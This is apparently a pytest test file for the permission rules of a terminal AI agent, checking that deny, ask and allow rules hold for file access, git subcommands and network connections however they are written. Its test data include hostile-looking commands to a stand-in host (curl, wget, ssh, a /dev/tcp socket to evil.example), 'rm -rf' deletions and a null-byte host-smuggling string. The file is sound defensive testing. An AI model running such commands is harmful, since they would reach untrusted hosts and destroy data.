"""What a rule means: the real file and the name that was given, a command wherever it stands, a host however written."""

import pytest

from tui_agent.policy.decision.policy import RulePolicy
from tui_agent.ports.policy import Decision, PolicyFacts
from tui_agent.protocol.effects import Connects, Effect, Reads, Runs, Writes

WORKSPACE = "/home/ada/timesheet"


def judged(effect: Effect, *rules: str, policy: str = "bypass", **resolved: str) -> Decision:
    links = {key.replace("__", "/"): value for key, value in resolved.items()}
    facts = PolicyFacts(WORKSPACE, policy, links)  # type: ignore[arg-type]
    return RulePolicy(rules).decide("fetch", (effect,), facts)


def verdict(effect: Effect, *rules: str, policy: str = "bypass", **resolved: str) -> str:
    return judged(effect, *rules, policy=policy, **resolved).verdict


@pytest.mark.parametrize(
    "path", ["private/x", "PRIVATE/x", "Private/X", f"{WORKSPACE}/pRivate/x", "./a/../private/x"]
)
def test_a_rule_against_a_file_counts_whatever_the_letter_case(path: str) -> None:
    assert verdict(Reads(path=path), "deny read private/**") == "deny"
    assert verdict(Runs(argv=("cat", path)), "deny read private/**") == "deny"
    assert verdict(Writes(path=path), "deny edit private/**") == "deny"


def test_an_accent_may_be_written_in_two_ways() -> None:
    assert verdict(Reads(path="re\u0301sume\u0301.txt"), "deny read r\u00e9sum\u00e9.txt") == "deny"


def test_a_rule_that_allows_means_the_letters_as_they_are() -> None:
    assert verdict(Writes(path="Src/a"), "allow edit src/**", policy="ask") == "ask"
    assert verdict(Writes(path="src/a"), "allow edit src/**", policy="ask") == "allow"


def test_a_rule_counts_for_the_name_and_for_the_real_file() -> None:
    rule = "deny read private/**"
    assert verdict(Reads(path="notes"), rule, notes=f"{WORKSPACE}/private/notes") == "deny"
    assert verdict(Reads(path="private/notes"), rule, private__notes="/srv/notes") == "deny"
    assert verdict(Runs(script="cat notes"), rule, notes=f"{WORKSPACE}/private/notes") == "deny"


def test_a_rule_on_a_link_counts_for_where_it_leads() -> None:
    found = judged(Reads(path="real/x"), "deny read private/**", private=f"{WORKSPACE}/real")
    assert found.verdict == "deny"
    assert verdict(Reads(path="/srv/x"), "deny read private/**", private="/srv") == "deny"
    assert verdict(Reads(path="real/x"), "deny read private/**") == "allow"
    policy = RulePolicy(["deny read private/**", "allow read /opt/x/**", "deny edit **/*.lock"])
    assert policy.paths((Reads(path="a"),), ()) == ("a", "private")


@pytest.mark.parametrize(
    ("script", "rule", "expected"),
    [
        ("rm -r src", "deny edit src/keep/**", "deny"),
        ("rm -rf ./src/", "deny remove src/keep/**", "deny"),
        ("mv src old", "deny edit src/keep/**", "deny"),
        ("rm -r src/keep", "deny edit src/keep/**", "deny"),
        ("rm -r build", "deny edit src/keep/**", "allow"),
        ("rm -r src", "ask edit src/keep/**", "ask"),
        ("rm src/a.py", "deny edit **/*.lock", "allow"),
        ("rm -r build", "deny edit **/*.lock", "ask"),
        ("rm poetry.lock", "deny edit **/*.lock", "deny"),
        ("frobnicate private/x", "deny read private/**", "deny"),
        ("frobnicate --in=private/x", "deny read private/**", "deny"),
        ("pytest tests", "deny edit tests/**", "allow"),
        ("make > docs/a", "ask edit docs/**", "ask"),
    ],
)
def test_a_rule_against_files_counts_for_what_a_command_does_with_them(
    script: str, rule: str, expected: str
) -> None:
    assert verdict(Runs(script=script), rule) == expected


@pytest.mark.parametrize(
    "script",
    [
        "git push",
        "git -C sub push",
        "git --no-pager -c a=b push origin main",
        "GIT push",
        "/usr/bin/git -C sub push",
        "git $X",
        "bash -c 'git -C sub push'",
    ],
)
def test_a_subcommand_is_found_behind_options(script: str) -> None:
    assert verdict(Runs(script=script), "deny run git push *") == "deny"
    assert verdict(Runs(script=script), "ask run git push *") == "ask"


def test_another_subcommand_is_not_meant() -> None:
    assert verdict(Runs(script="git -C sub log push"), "deny run git push *") == "allow"


@pytest.mark.parametrize(
    "script",
    [
        "curl https://evil.example/x",
        "curl evil.example",
        "curl HTTP://EVIL.EXAMPLE.:80",
        "wget -q http://good.org@evil.example/",
        "curl --url=https://evil.example",
        "ssh ada@evil.example",
        "git clone git@evil.example:a/b",
        "curl good.org; curl evil.example",
        "frobnicate https://evil.example",
        "exec 3<>/dev/tcp/evil.example/80",
    ],
)
def test_a_rule_against_a_host_counts_for_commands(script: str) -> None:
    assert verdict(Runs(script=script), "deny connect evil.example") == "deny"


def test_a_command_whose_host_cannot_be_told_is_asked_about_where_rules_name_hosts() -> None:
    assert judged(Runs(script="git fetch"), "deny connect evil.example").rule_id == "rules.host"
    assert verdict(Runs(script="curl $URL"), "deny connect evil.example") == "ask"
    assert verdict(Runs(script="git fetch"), "deny connect *") == "deny"
    assert verdict(Runs(script="curl good.org"), "deny connect evil.example") == "allow"
    assert verdict(Runs(script="cat evil.example"), "deny connect evil.example") == "allow"


def test_a_tool_that_connects_follows_rules_for_hosts() -> None:
    assert verdict(Connects(host="docs.example.org"), "allow connect *.example.org", policy="ask") == "allow"
    assert verdict(Connects(host="docs.example.org"), "allow connect *.example.org", policy="plan") == "deny"
    assert verdict(Connects(host="127.1"), "deny connect 127.0.0.0/8") == "deny"
    for host in ("user@example.org", "example.org\0.evil.example", "", "a b"):
        assert verdict(Connects(host=host), "allow connect example.org") in ("deny", "ask"), host
        assert judged(Connects(host=host)).verdict == "deny", host


def test_a_rule_for_a_tool_allows_what_its_profile_asks_in_the_workspace_and_nothing_else() -> None:
    rule = "allow tool fetch"
    facts = PolicyFacts(WORKSPACE, "ask")
    assert RulePolicy([rule]).decide("fetch", (), facts).verdict == "allow"
    assert RulePolicy([rule]).decide("other", (), facts).verdict == "ask"
    assert verdict(Connects(host="example.org"), rule, policy="ask") == "allow"
    assert verdict(Writes(path="a"), rule, policy="ask") == "allow"
    assert verdict(Writes(path="a"), rule, policy="plan") == "deny"
    assert verdict(Writes(path="/srv/ada/a"), rule, policy="ask") == "deny"
    assert verdict(Writes(path="/home/ada/b"), rule, policy="ask") == "ask"
    assert verdict(Writes(path="a", removes=True), rule, policy="ask") == "ask"
    assert verdict(Runs(script="make"), rule, policy="ask") == "ask"
    assert verdict(Connects(host="example.org"), rule, "deny connect example.org", policy="ask") == "deny"


def test_asking_wins_over_allowing_exactly_this_and_no_rule_is_offered_then() -> None:
    found = judged(Runs(script="pytest"), "allow exact pytest", "ask run pytest *", policy="ask")
    assert found.verdict == "ask"
    assert [choice.offered for choice in found.choices] == [True, False, False]
    assert found.choices[2].why == "not offered: a rule asks about this each time"


def test_the_reason_names_the_rule_and_where_it_stands() -> None:
    found = judged(Runs(script="pytest"), "ask run pytest *", policy="ask")
    assert (found.rule_id, found.reason) == ("rule: ask run pytest *", "the rule `ask run pytest *` says so")
